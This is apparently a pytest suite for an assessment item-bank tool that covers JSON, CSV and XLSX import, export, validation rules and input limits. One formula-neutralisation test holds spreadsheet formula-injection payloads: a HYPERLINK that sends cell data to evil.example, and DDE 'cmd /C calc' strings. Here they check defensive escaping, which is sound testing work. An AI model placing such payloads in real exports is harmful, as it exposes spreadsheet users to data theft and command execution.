from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.engine import Engine

from itembank import services
from itembank.db import make_engine, session_scope
from itembank.exceptions import ValidationReport
from itembank.formats import (
    CSV_COLUMNS,
    bundle_document,
    csv_text,
    dump_json,
    parse_csv,
    parse_json,
    read_bundle,
    read_bundles,
    write_bundle,
)
from itembank.framework import read_framework
from itembank.validate import BankContext, ValidatedBundle, validate_bundle
from tests.itembank import samples

CONTEXT = BankContext(framework=read_framework())


def _validate(doc: dict[str, Any], context: BankContext = CONTEXT) -> ValidatedBundle:
    return validate_bundle(parse_json(json.dumps(doc, ensure_ascii=False).encode("utf-8"), source="t.json"), context)


def _problems(doc: dict[str, Any]) -> dict[str, str]:
    with pytest.raises(ValidationReport) as info:
        _validate(doc)
    return {p.where: p.message for p in info.value.problems}


@pytest.fixture
def fresh_sqlite(sqlite_template: Path, tmp_path: Path) -> Iterator[Engine]:
    """A second, empty migrated database (SQLite) to import an export into."""
    target = tmp_path / "second.db"
    target.write_bytes(sqlite_template.read_bytes())
    eng = make_engine(f"sqlite:///{target}")
    yield eng
    eng.dispose()


def _import(engine: Engine, raw: bytes, *, fmt: str) -> services.ImportSummary:
    bundle = parse_json(raw) if fmt == "json" else parse_csv(raw)
    with session_scope(engine) as session:
        return services.import_items(session=session, bundle=bundle)


def _export(engine: Engine, *, fmt: str) -> bytes:
    with session_scope(engine) as session:
        out = services.export_items(session=session)
    if fmt == "json":
        return dump_json(bundle_document(out.stimuli, out.items)).encode("utf-8")
    return csv_text(out.stimuli, out.items).encode("utf-8")


# ------------------------------------------------------------------------------------ valid input
def test_the_sample_validates_and_is_normalised() -> None:
    valid = _validate(samples.bundle())
    assert [i.code for i in valid.items] == [i["code"] for i in samples.ITEMS]
    pc = valid.items[4]
    assert pc.dimension == "D1" and pc.max_score == 2 and pc.params["b"] == [-0.2, 0.9]
    assert valid.items[1].max_score == 2 and valid.items[0].max_score == 1
    assert valid.items[0].to_document() == samples.ITEMS[0]


def test_numbers_are_normalised_to_floats_and_keys_sorted() -> None:
    doc = samples.bundle()
    doc["items"][1]["key"] = ["D", "A", "B"]
    doc["items"][2]["params"] = {"model": "2pl", "a": 1, "b": [-1]}
    valid = _validate(doc)
    assert valid.items[1].key == ["A", "B", "D"]
    assert valid.items[2].params == {"model": "2pl", "a": 1.0, "b": [-1.0], "c": 0.0}


# ------------------------------------------------------------------------------------ round trips
def test_json_round_trip_is_lossless(engine: Engine, fresh_sqlite: Engine) -> None:
    _import(engine, dump_json(samples.bundle()).encode("utf-8"), fmt="json")
    first = _export(engine, fmt="json")
    expected = samples.bundle()  # the sample is canonical, but the export is in code order
    expected["items"].sort(key=lambda i: i["code"])
    assert json.loads(first) == expected
    summary = _import(fresh_sqlite, first, fmt="json")
    assert len(summary.created) == 5 and summary.stimuli_created == ("S-T-01",)
    second = _export(fresh_sqlite, fmt="json")
    assert second == first
    # and importing the export into the database it came from changes nothing
    again = _import(engine, first, fmt="json")
    assert not again.changed and len(again.unchanged) == 5


def test_csv_round_trip_is_lossless(engine: Engine, fresh_sqlite: Engine) -> None:
    _import(engine, dump_json(samples.bundle()).encode("utf-8"), fmt="json")
    exported = _export(engine, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8"))))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 5
    assert rows[3]["key"] == "C" and rows[3]["stimulus_kind"] == "email" and rows[1]["key"] == "T"
    # with a BOM, as Excel writes it, into an empty database
    summary = _import(fresh_sqlite, b"\xef\xbb\xbf" + exported, fmt="csv")
    assert len(summary.created) == 5 and summary.stimuli_created == ("S-T-01",)
    assert _export(fresh_sqlite, fmt="csv") == exported
    assert _export(fresh_sqlite, fmt="json") == _export(engine, fmt="json")
    assert not _import(engine, exported, fmt="csv").changed


def test_write_bundle_writes_bom_csv_and_plain_json(tmp_path: Path) -> None:
    valid = _validate(samples.bundle())
    write_bundle(tmp_path / "a.csv", valid.stimuli, valid.items)
    write_bundle(tmp_path / "a.json", valid.stimuli, valid.items)
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbfcode,type,")
    assert json.loads((tmp_path / "a.json").read_text(encoding="utf-8")) == samples.bundle()
    again = validate_bundle(read_bundle(tmp_path / "a.csv"), CONTEXT)
    assert [i.to_document() for i in again.items] == [i.to_document() for i in valid.items]


def test_an_xlsx_workbook_with_the_csv_columns_reads_as_the_csv_does(tmp_path: Path) -> None:
    import openpyxl

    valid = _validate(samples.bundle())
    rows = list(csv.reader(io.StringIO(csv_text(valid.stimuli, valid.items).lstrip("\ufeff"))))
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    sheet.cell(row=3, column=rows[0].index("stem") + 1).value = None  # row 3 loses its stem
    book.save(tmp_path / "items.xlsx")
    with pytest.raises(ValidationReport) as info:
        validate_bundle(read_bundle(tmp_path / "items.xlsx"), CONTEXT)
    assert [p.where for p in info.value.problems] == ["row 3, stem"]
    sheet.cell(row=3, column=rows[0].index("stem") + 1, value=valid.items[1].stem)
    book.save(tmp_path / "items.xlsx")
    again = validate_bundle(read_bundle(tmp_path / "items.xlsx"), CONTEXT)
    assert [i.to_document() for i in again.items] == [i.to_document() for i in valid.items]


def test_csv_accepts_spreadsheet_spellings() -> None:
    valid = _validate(samples.bundle())
    text = csv_text(valid.stimuli, valid.items)
    rows = list(csv.DictReader(io.StringIO(text)))
    rows[2]["key"] = "TRUE"  # Excel turns T into TRUE
    rows[3]["key"] = "ab"  # lower case, no separator
    for r in rows[1:]:  # only the first row carries the stimulus text
        r["stimulus_kind"] = r["stimulus_title"] = r["stimulus_body"] = ""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    again = validate_bundle(parse_csv(out.getvalue().encode("utf-8")), CONTEXT)
    assert again.items[2].key == ["T"] and again.items[3].key == ["A", "B"]
    assert len(again.stimuli) == 1


# ------------------------------------------------------------------------------------ bad CSV
def _csv_rows(mutate: Callable[[list[dict[str, str]]], None]) -> bytes:
    valid = _validate(samples.bundle())
    rows = list(csv.DictReader(io.StringIO(csv_text(valid.stimuli, valid.items))))
    mutate(rows)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def test_malformed_csv_lists_every_problem_by_row() -> None:
    def mutate(rows: list[dict[str, str]]) -> None:
        rows[0]["key"] = ""  # row 2: single choice without key
        rows[2]["dimension"] = "D9"  # row 4: unknown dimension
        rows[4]["code"] = rows[3]["code"]  # row 6: duplicate of row 5
        rows[1]["key"] = "A;E"  # row 3: key not among options

    with pytest.raises(ValidationReport) as info:
        validate_bundle(parse_csv(_csv_rows(mutate), source="bad.csv"), CONTEXT)
    report = info.value
    lines = [str(p) for p in report.problems]
    assert "row 2, key: missing: single_choice items need 'key'" in lines
    assert any(line.startswith("row 4, dimension: unknown dimension 'D9'") for line in lines)
    assert "row 6, code: duplicate item code 'T3.1-001' (first at row 5)" in lines
    assert "row 3, key: key 'E' is not among the options A, B, C, D" in lines
    assert len(lines) == 4
    assert report.source == "bad.csv"


def test_csv_in_another_encoding_is_one_clear_problem() -> None:
    raw = _csv_rows(lambda rows: None).decode("utf-8").encode("gb18030")
    bundle = parse_csv(raw, source="gbk.csv")
    assert len(bundle.problems) == 1 and not bundle.items
    problem = bundle.problems[0]
    assert problem.where == "row 2" and "not valid UTF-8" in problem.message and "CSV UTF-8" in problem.message
    with pytest.raises(ValidationReport) as info:
        validate_bundle(bundle, CONTEXT)
    assert len(info.value.problems) == 1


@pytest.mark.parametrize(
    ("raw", "where", "message"),
    [
        (b"", "", "the file is empty"),
        (b"\xef\xbb\xbf  \r\n", "", "the file is empty"),
        (",".join(CSV_COLUMNS).encode() + b"\r\n", "", "the file has a header but no item rows"),
        (b"code,type\r\nX,single_choice\r\n", "row 1", "missing column 'indicator'"),
    ],
)
def test_empty_or_headless_csv(raw: bytes, where: str, message: str) -> None:
    bundle = parse_csv(raw)
    assert (bundle.problems[0].where, bundle.problems[0].message) == (where, message)


def test_csv_header_and_cell_problems() -> None:
    def mutate(rows: list[dict[str, str]]) -> None:
        rows[4]["parts_json"] = "[{not json"
        rows[4]["score_map"] = "0;1;x;2"
        rows[3]["option_B"] = ""  # a gap between A and C
        rows[2]["a"] = "abc"

    with pytest.raises(ValidationReport) as info:
        validate_bundle(parse_csv(_csv_rows(mutate)), CONTEXT)
    lines = [str(p) for p in info.value.problems]
    assert any(line.startswith("row 6, parts_json: not valid JSON") for line in lines)
    assert "row 6, score_map: must be a whole number, got 'x'" in lines
    assert any(line.startswith("row 5, option_B: empty, but option_C is filled") for line in lines)
    assert "row 4, a: must be a number, got 'abc'" in lines
    assert not any("need 'parts'" in line or "need 'options'" in line for line in lines), lines
    assert len(lines) == 4


def test_csv_unknown_and_duplicate_columns() -> None:
    raw = _csv_rows(lambda rows: None).decode("utf-8")
    header, rest = raw.split("\r\n", 1)
    bundle = parse_csv(f"{header},colour,stem\r\n{rest}".encode())
    assert [str(p) for p in bundle.problems] == [
        f"row 1: unknown column 'colour' (column {len(CSV_COLUMNS) + 1})",
        "row 1: column 'stem' appears twice",
    ]


def test_csv_rows_sharing_a_stimulus_must_agree() -> None:
    def mutate(rows: list[dict[str, str]]) -> None:
        rows[1]["stimulus_body"] = "改过的正文"

    with pytest.raises(ValidationReport) as info:
        validate_bundle(parse_csv(_csv_rows(mutate)), CONTEXT)
    assert [str(p) for p in info.value.problems] == [
        "row 3, stimulus_body: differs from stimulus 'S-T-01' at row 2 (rows sharing a stimulus carry the same "
        "text or leave it empty)"
    ]


# ------------------------------------------------------------------------------------ bad JSON
def _mutated(path: str, value: Any) -> dict[str, Any]:
    """The sample with ``items[i].field`` (dotted path) set to ``value`` (``...`` deletes it)."""
    doc = samples.bundle()
    target: Any = doc
    keys = path.replace("[", ".").replace("]", "").split(".")
    for k in keys[:-1]:
        target = target[int(k)] if k.isdigit() else target[k]
    last = keys[-1]
    if value is ...:
        del target[int(last) if last.isdigit() else last]
    elif last.isdigit():
        target[int(last)] = value
    else:
        target[last] = value
    return doc


@pytest.mark.parametrize(
    ("path", "value", "where", "message"),
    [
        ("items[0].type", "essay", "items[0].type", "unknown type 'essay'"),
        ("items[0].indicator", "D1.9", "items[0].indicator", "unknown indicator 'D1.9' (dimension D1 has D1.1"),
        ("items[0].indicator", "D7.1", "items[0].indicator", "no dimension 'D7'"),
        ("items[0].grade_bands", ["5-6", "13"], "items[0].grade_bands[1]", "unknown grade band '13'"),
        ("items[0].grade_bands", [], "items[0].grade_bands", "at least one grade band"),
        ("items[0].status", "live", "items[0].status", "unknown status 'live'"),
        ("items[0].stem", ..., "items[0].stem", "missing required field"),
        ("items[0].author", "  ", "items[0].author", "must not be empty"),
        ("items[0].colour", "red", "items[0].colour", "unknown field"),
        ("items[0].key", ["E"], "items[0].key[0]", "key 'E' is not among the options A, B, C, D"),
        ("items[0].key", ["A", "C"], "items[0].key", "exactly one key, got 2"),
        ("items[0].key", ..., "items[0].key", "missing: single_choice items need 'key'"),
        ("items[0].options", [{"key": "A", "text": "x"}, {"key": "B", "text": "y"}], "items[0].options", "3 to 6"),
        ("items[0].options[1].key", "C", "items[0].options[1].key", "expected 'B', got 'C'"),
        ("items[0].options[2].text", "立即点击链接领奖", "items[0].options", "the same text"),
        ("items[0].scoring", "partial", "items[0].scoring", "single_choice items have no 'scoring'"),
        ("items[0].stimulus", "S-NONE", "items[0].stimulus", "unknown stimulus 'S-NONE'"),
        ("items[0].enemies", ["T9.9-999"], "items[0].enemies[0]", "enemy 'T9.9-999' is not an item"),
        ("items[0].enemies", ["T4.3-001"], "items[0].enemies[0]", "cannot be its own enemy"),
        ("items[1].key", ["A"], "items[1].key", "two or more keys, got 1"),
        ("items[1].scoring", "most", "items[1].scoring", "unknown scoring 'most'"),
        ("items[1].rubric", ..., "items[1].rubric", "scored partial needs a rubric"),
        ("items[2].key", ["X"], "items[2].key", 'a true_false key is ["T"] or ["F"]'),
        ("items[2].options", [{"key": "A", "text": "对"}], "items[2].options", "true_false items have no 'options'"),
        ("items[3].rubric", [{"score": 0, "description": "x"}], "items[3].rubric", "scored all_or_nothing has no"),
        ("items[4].score_map", [1, 1, 2, 2], "items[4].score_map[0]", "must start at 0"),
        ("items[4].score_map", [0, 1, 2], "items[4].score_map", "needs len(parts)+1 = 4 entries"),
        ("items[4].score_map", [0, 0, 0, 2], "items[4].score_map[3]", "steps must be 0 or 1"),
        ("items[4].score_map", [0, 0, 1, 1], "items[4].score_map", "at least 2"),
        ("items[4].rubric", [{"score": 0, "description": "a"}], "items[4].rubric", "one entry per score 0..2"),
        ("items[4].rubric[1].score", 2, "items[4].rubric[1].score", "expected 1, got 2"),
        ("items[4].rubric[2].description", "", "items[4].rubric[2].description", "must not be empty"),
        ("items[4].parts[2].key", "D", "items[4].parts[2].key", "key 'D' is not among the options A, B, C"),
        ("items[4].parts", [{"prompt": "x", "options": [], "key": "A"}], "items[4].parts", "2 to 5 parts"),
        ("items[4].key", ["A"], "items[4].key", "partial_credit items have no 'key'"),
        ("items[0].params.model", "gpcm", "items[0].params.model", "does not fit a dichotomous item"),
        ("items[0].params.b", [-0.4, 0.2], "items[0].params.b", "needs one difficulty, got 2"),
        ("items[0].params.a", 0, "items[0].params.a", "slope a must lie in (0.0, 4.0]"),
        ("items[0].params.a", "1.2", "items[0].params.a", "must be a number, got '1.2'"),
        ("items[0].params.c", 0.45, "items[0].params.c", "must lie in [0.0, 0.3]"),
        ("items[0].params.b", [9.0], "items[0].params.b[0]", "difficulty must lie in [-5.0, 5.0]"),
        ("items[2].params.c", 0.1, "items[2].params.c", "model 2pl has no lower asymptote"),
        ("items[1].params.b", [0.1], "items[1].params.b", "needs 2 thresholds (max score 2)"),
        ("items[4].params.b", [0.9, -0.2], "items[4].params.b", "grm thresholds must be strictly increasing"),
        ("items[4].params.model", "3pl", "items[4].params.model", "does not fit a polytomous (0..2) item"),
        ("items[4].params.se", 0.1, "items[4].params.se", "unknown field"),
        ("items[4].params", ..., "items[4].params", "missing required field"),
        ("stimuli[0].kind", "E-Mail", "stimuli[0].kind", "not a valid kind"),
        ("stimuli[0].body", ..., "stimuli[0].body", "missing required field"),
        ("items[0].code", "has space", "items[0].code", "not a valid code"),
    ],
)
def test_each_rule_names_its_path(path: str, value: Any, where: str, message: str) -> None:
    problems = _problems(_mutated(path, value))
    assert where in problems, problems
    assert message in problems[where]


def test_duplicate_codes_within_a_file() -> None:
    doc = samples.bundle()
    doc["items"].append(dict(doc["items"][2]))
    doc["stimuli"].append(dict(doc["stimuli"][0]))
    problems = _problems(doc)
    assert problems["items[5].code"] == "duplicate item code 'T2.1-001' (first at items[2])"
    assert problems["stimuli[1].code"] == "duplicate stimulus code 'S-T-01' (first at stimuli[0])"


def test_references_may_point_at_the_bank() -> None:
    doc = samples.bundle()
    doc["stimuli"] = []
    doc["items"] = [dict(doc["items"][0], enemies=["OLD-001"])]
    context = BankContext(framework=CONTEXT.framework, stimuli=frozenset({"S-T-01"}), items=frozenset({"OLD-001"}))
    assert _validate(doc, context).items[0].enemies == ["OLD-001"]


@pytest.mark.parametrize(
    ("raw", "where", "message"),
    [
        (b"", "", "the file is empty"),
        (b"{", "line 1 column 2", "not valid JSON"),
        (b"[]", "(top level)", "must be an object"),
        (b'{"format": "infolit-items", "version": 1, "items": []}', "items", "the file holds no items"),
        (b'{"format": "x", "version": 1, "items": []}', "format", "must be 'infolit-items'"),
        (b'{"format": "infolit-items", "version": 2, "items": []}', "version", "must be 1"),
        (b'{"format": "infolit-items", "version": 1}', "items", "missing required field"),
        (b'{"format": "infolit-items", "version": 1, "items": {}}', "items", "must be a list"),
        (b'{"format": "infolit-items", "version": 1, "items": [], "x": 1}', "x", "unknown field"),
        (b'{"format": "infolit-items", "version": 1, "items": [7]}', "items[0]", "must be an object, got a number"),
        (b'{"format": "infolit-items", "version": 1, "items": [], "stimuli": [[]]}', "stimuli[0]", "must be an"),
        ('{"stem": "信息"}'.encode("gbk"), "line 1", "not valid UTF-8"),
    ],
)
def test_unusable_json_files(raw: bytes, where: str, message: str) -> None:
    with pytest.raises(ValidationReport) as info:
        validate_bundle(parse_json(raw, source="x.json"), CONTEXT)
    first = info.value.problems[0]
    assert first.where == where and message in first.message


def test_unknown_extension_and_merged_files(tmp_path: Path) -> None:
    assert read_bundle(tmp_path / "items.ods").problems[0].message.startswith("unknown file type '.ods'")
    a = samples.write_json(tmp_path / "a.json")
    doc = samples.bundle()
    doc["stimuli"] = []
    doc["items"] = [dict(doc["items"][0], code="T4.3-003", key=["Z"])]
    b = samples.write_json(tmp_path / "b.json", doc)
    with pytest.raises(ValidationReport) as info:
        validate_bundle(read_bundles([a, b]), CONTEXT)
    assert [str(p) for p in info.value.problems] == [
        "b.json: items[0].key[0]: key 'Z' is not among the options A, B, C, D"
    ]


# ------------------------------------------------------------------------------------ formulas
FORMULA_TEXTS = {
    "stem": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "option": "@SUM(1+1)*cmd|' /C calc'!A0",
    "rationale": "+1+cmd|' /C calc'!A0",
    "tf_stem": "-1 是负数。",
    "title": "'=an apostrophe already",
    "body": "=cmd|' /C notepad'!A0",
}


def _formula_bundle() -> dict[str, Any]:
    doc = samples.bundle()
    doc["stimuli"][0]["title"] = FORMULA_TEXTS["title"]
    doc["stimuli"][0]["body"] = FORMULA_TEXTS["body"]
    doc["items"][0]["stem"] = FORMULA_TEXTS["stem"]
    doc["items"][0]["options"][0]["text"] = FORMULA_TEXTS["option"]
    doc["items"][0]["rationale"] = FORMULA_TEXTS["rationale"]
    doc["items"][2]["stem"] = FORMULA_TEXTS["tf_stem"]
    return doc


def test_csv_export_neutralises_formulas_and_imports_back_unchanged(engine: Engine, fresh_sqlite: Engine) -> None:
    from itembank.tabular import looks_like_formula

    _import(engine, dump_json(_formula_bundle()).encode("utf-8"), fmt="json")
    exported = _export(engine, fmt="csv")
    records = list(csv.reader(io.StringIO(exported.decode("utf-8"), newline="")))
    assert not [cell for record in records for cell in record if looks_like_formula(cell)]
    cells = {cell for record in records for cell in record}
    for text in FORMULA_TEXTS.values():
        assert "'" + text in cells  # written with OWASP's leading quote
    rows = {r["code"]: r for r in csv.DictReader(io.StringIO(exported.decode("utf-8")))}
    assert rows["T4.3-001"]["b"] == "-0.4"  # a plain number stays a number
    summary = _import(fresh_sqlite, exported, fmt="csv")
    assert len(summary.created) == 5
    assert _export(fresh_sqlite, fmt="json") == _export(engine, fmt="json")  # identical bank
    assert _export(fresh_sqlite, fmt="csv") == exported
    stored = json.loads(_export(fresh_sqlite, fmt="json"))
    by_code = {i["code"]: i for i in stored["items"]}
    assert by_code["T4.3-001"]["stem"] == FORMULA_TEXTS["stem"]
    assert stored["stimuli"][0]["title"] == FORMULA_TEXTS["title"]


# ------------------------------------------------------------------------------------ limits
def test_deeply_nested_json_is_a_problem_not_a_crash() -> None:
    bundle = parse_json(b'{"items": ' + b"[" * 50_000 + b"]" * 50_000 + b"}")
    assert [p.message for p in bundle.problems] == ["nested more than 32 levels deep (the limit)"]
    doc = samples.bundle()
    nested: Any = "x"
    for _ in range(40):
        nested = [nested]
    doc["items"][4]["parts"][0]["options"] = nested
    bundle = parse_json(dump_json(doc).encode("utf-8"))
    assert bundle.problems[0].where.startswith("items[4].parts[0].options")
    with pytest.raises(ValidationReport):
        validate_bundle(bundle, CONTEXT)


def test_a_deep_json_cell_in_a_csv_is_located() -> None:
    def mutate(rows: list[dict[str, str]]) -> None:
        rows[4]["parts_json"] = "[" * 40 + "]" * 40

    bundle = parse_csv(_csv_rows(mutate))
    assert [str(p) for p in bundle.problems] == ["row 6, parts_json: nested more than 32 levels deep (the limit)"]


def test_item_files_have_size_and_count_limits(tmp_path: Path) -> None:
    from itembank.tabular import ReadLimits

    path = samples.write_json(tmp_path / "a.json")
    small = ReadLimits(max_bytes=100)
    assert read_bundle(path, limits=small).problems[0].message.endswith("more than the limit of 0 MiB: split it")
    few = ReadLimits(max_rows=3)
    assert parse_json(path.read_bytes(), limits=few).problems[0].message == "5 entries, more than the limit of 3"
    valid = _validate(samples.bundle())
    csv_raw = csv_text(valid.stimuli, valid.items).encode("utf-8")
    assert "more than 3 data rows" in parse_csv(csv_raw, limits=few).problems[0].message


def test_a_cut_file_and_json_advice() -> None:
    raw = dump_json(samples.bundle()).encode("utf-8")
    cut = raw[: raw.index("中".encode()) + 1]
    problem = parse_json(cut).problems[0]
    assert "ends in the middle of a character" in problem.message and "GBK" not in problem.message
    gbk = parse_json('{"stem": "信息"}'.encode("gbk")).problems[0]
    assert "GBK" in gbk.message and "CSV" not in gbk.message and "save it as UTF-8" in gbk.message


def test_control_characters_are_refused_wherever_they_are() -> None:
    doc = samples.bundle()
    doc["items"][0]["stem"] = "null \x00 byte"
    doc["items"][4]["parts"][1]["prompt"] = "bell \x07"
    doc["stimuli"][0]["body"] = "lone \ud800 surrogate"
    doc["items"][1]["stem"] = "tabs\tand\nnew lines are fine"
    with pytest.raises(ValidationReport) as info:  # ASCII JSON: the surrogate travels as an escape
        validate_bundle(parse_json(json.dumps(doc).encode("ascii")), CONTEXT)
    problems = {p.where: p.message for p in info.value.problems}
    assert problems["items[0].stem"] == "contains the control character U+0000; remove it"
    assert problems["items[4].parts[1].prompt"] == "contains the control character U+0007; remove it"
    assert problems["stimuli[0].body"] == "contains the control character U+D800; remove it"
    assert "items[1].stem" not in problems


def test_only_the_first_50_problems_are_listed_and_the_rest_counted() -> None:
    doc = samples.bundle()
    doc["items"] = [dict(doc["items"][2], code=f"T2.1-{i:03d}", key=["X"]) for i in range(120)]
    with pytest.raises(ValidationReport) as info:
        _validate(doc)
    report = info.value
    assert len(report.problems) == 50 and report.more == 70 and report.total == 120
    assert report.problems[0].where == "items[0].key" and report.problems[-1].where == "items[49].key"
    assert str(report).endswith("...and 70 more")
